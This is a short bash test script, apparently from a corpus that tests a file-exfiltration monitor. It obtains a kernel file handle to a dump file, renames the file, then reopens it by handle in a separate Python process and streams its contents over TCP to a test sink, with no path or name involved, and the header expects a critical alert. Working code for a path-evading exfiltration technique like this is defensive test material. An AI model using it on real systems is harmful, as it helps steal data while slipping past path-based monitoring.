#!/bin/bash
# B-handle-at: the dump is opened by a file handle, as a file server does, after it was renamed.
# flow: name_to_handle_at by one process, open_by_handle_at by another, which reads and sends: no path, no name.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
cat >handles.py <<'END'
import ctypes
AT_FDCWD = -100


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


libc = ctypes.CDLL(None, use_errno=True)
END
python3 - "$D" <<'END' || skip "no file handles here"
import ctypes, sys
sys.path.insert(0, "")
from handles import *
handle, mount = Handle(128), ctypes.c_int()
if libc.name_to_handle_at(AT_FDCWD, sys.argv[1].encode(), ctypes.byref(handle), ctypes.byref(mount), 0):
    sys.exit(1)
open("handle", "wb").write(bytes(handle))
END
mkdir -p away/deep
mv "$D" away/deep/x
python3 - "$SINK" "$PORT" <<'END' || fail "open_by_handle_at"
import ctypes, os, socket, sys
sys.path.insert(0, "")
from handles import *
handle = Handle.from_buffer_copy(open("handle", "rb").read())
dump = libc.open_by_handle_at(os.open(".", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
assert dump >= 0, ctypes.get_errno()
sink = socket.create_connection((sys.argv[1], int(sys.argv[2])))
while part := os.read(dump, 50000):
    sink.sendall(part)
END
sunk
